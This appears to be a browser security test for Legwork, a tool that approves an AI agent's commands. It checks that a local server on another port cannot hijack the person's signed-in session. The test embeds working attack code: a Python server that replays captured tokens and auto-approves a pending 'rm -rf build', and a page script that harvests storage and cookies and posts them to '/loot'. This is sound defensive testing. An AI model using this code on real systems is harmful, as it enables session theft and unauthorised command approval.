// What a development server on another port of the same host gets of the page: nothing that
// answers a question. It is a command in the sandbox that shares the network of this machine, and
// the person opens it in the browser that is signed in.
import assert from "node:assert/strict";
import fs from "node:fs";
import path from "node:path";
import { api, given, model, openByLink, script, start, until } from "./browser.mjs";

const file = (name) => path.join(given.workspace, name);

/**
 * A server that takes whatever a browser brings, replays it to Legwork at once and writes down what
 * it got: the headers, what the scripts of its page could read, and how Legwork answered.
 */
const THIEF = `
import http.server, json, re, sys, threading, urllib.error, urllib.request
target = sys.argv[1]

def ask(headers, path="/api/v1/questions", body=None):
    request = urllib.request.Request(target + path, headers=headers, data=body)
    try:
        with urllib.request.urlopen(request, timeout=60) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as refused:
        return refused.code, ""

def replayed(headers, body):
    kept = {k: v for k, v in headers.items() if k.lower() not in ("host", "connection", "content-length")}
    tries = [kept, {**kept, "X-Legwork": "1"}]
    texts = list(kept.values()) + re.findall(r"[A-Za-z0-9_]{20,}", body + str(kept))
    for text in dict.fromkeys(texts):
        tries += [{"X-Legwork": text}, {"Sec-WebSocket-Protocol": "legwork, " + text}]
    for text in re.findall(r"lwt_[a-z0-9]+", body + str(kept)):
        tries.append({"Authorization": "Bearer " + text})
    codes = []
    for headers in tries:
        code, text = ask(headers)
        codes.append(code)
        if code == 200:
            for question in json.loads(text)["questions"]:
                path = "/api/v1/questions/" + question["approval_id"] + "/answer"
                ask({**headers, "Content-Type": "application/json"}, path, b'{"decision":"allow_once"}')
    return codes

class Server(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
        got = {"path": self.path, "headers": dict(self.headers.items()), "body": body}
        got["codes"] = replayed(self.headers, body)
        with open("got", "a") as log:
            log.write(json.dumps(got) + "\\n")
        self.send_response(200)
        self.send_header("Content-Type", "text/javascript" if self.path == "/app.js" else "text/html")
        self.end_headers()
        page = open("app.js").read() if self.path == "/app.js" else '<body><script type="module" src="/app.js"></script>'
        self.wfile.write(page.encode())
    do_POST = do_GET
    def log_message(self, *_):
        pass

server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Server)
open("port.new", "w").write(str(server.server_address[1]))
import os
os.rename("port.new", "port")
server.serve_forever()
`;

/** What the page of that server tries in the browser. */
const SCRIPT = `
const found = { storage: { ...sessionStorage, ...localStorage }, cookie: document.cookie, told: [] };
const names = ["legwork /", "legwork"];
for (const name of names) {
  const channel = new BroadcastChannel(name);
  channel.onmessage = ({ data }) => found.told.push(data);
  channel.postMessage("wanted");
}
const tried = [];
for (const host of ["127.0.0.1", "localhost", new URL(TARGET).hostname]) {
  const target = new URL(TARGET);
  target.hostname = host;
  const read = async (path, init) => {
    try {
      const answer = await fetch(new URL(path, target), init);
      found.told.push(answer.type, answer.status, await answer.text());
    } catch {}
  };
  for (const headers of [{}, { "X-Legwork": "1" }]) {
    tried.push(read("/api/v1/questions", { credentials: "include", headers }));
  }
  tried.push(read("/api/v1/session", { credentials: "include", mode: "no-cors" }));
  tried.push(new Promise((done) => {
    const socket = new WebSocket(new URL("/api/v1/tasks/x/terminal", target).href.replace("http", "ws"), ["legwork"]);
    socket.onopen = () => found.told.push("a WebSocket");
    socket.onclose = done;
    socket.onerror = done;
  }));
  tried.push(new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.src = target;
    frame.onload = () => {
      try {
        found.told.push(JSON.stringify({ ...frame.contentWindow.sessionStorage }));
      } catch {}
      done();
    };
    document.body.append(frame);
  }));
}
await Promise.all(tried);
await fetch("/loot", { method: "POST", body: JSON.stringify(found) });
`;

await script(async () => {
  const desk = await openByLink();
  fs.writeFileSync(file("app.py"), THIEF);
  fs.writeFileSync(file("app.js"), `const TARGET = ${JSON.stringify(given.address)};${SCRIPT}`);
  await start(`python3 -u app.py ${given.server}`);
  const port = await until("it listens", () => fs.existsSync(file("port")) && fs.readFileSync(file("port"), "utf8"));
  fs.mkdirSync(file("build"));
  const asked = model("rm -rf build");
  await desk.page.getByRole("article").waitFor();

  for (const host of ["127.0.0.1", "localhost"]) {
    const tab = await desk.context.newPage();
    await tab.goto(`http://${host}:${port}/`);
    const loot = () => {
      const got = fs.readFileSync(file("got"), "utf8").trim().split("\n").map((line) => JSON.parse(line));
      const here = got.filter(({ headers }) => headers.Host === `${host}:${port}`);
      return here.some((it) => it.path === "/loot") && here;
    };
    const got = await until(`the page of ${host} has tried everything`, loot);
    assert(got.length >= 3, "the page, its script and what that found");
    for (const { path: asked, headers, body, codes } of got) {
      const told = JSON.stringify({ asked, headers, body, codes });
      assert(!Object.keys(headers).some((name) => name.toLowerCase() === "cookie"), told);
      assert(!/lwt_/.test(told), told);
      // What it has is nobody to Legwork; some of it comes from another page, by its own words.
      assert(codes.length > 0 && codes.every((code) => code === 401), told);
      if (asked !== "/loot") continue;
      const found = JSON.parse(body);
      assert.deepEqual(found.storage, {}, told);
      assert.equal(found.cookie, "", told);
      assert.deepEqual(found.told.filter((it) => it !== "opaque" && it !== 0 && it !== ""), [], told);
    }
    await tab.close();
  }
  assert(fs.existsSync(file("build")), "nobody has allowed it");
  const { result } = await api("operator", "GET", "questions");
  assert.equal(result.questions.length, 1, "the question is open");
  await api("operator", "POST", `questions/${result.questions[0].approval_id}/answer`, { decision: "deny" });
  assert((await asked).includes("refused"), await asked);
  assert(fs.existsSync(file("build")));
});
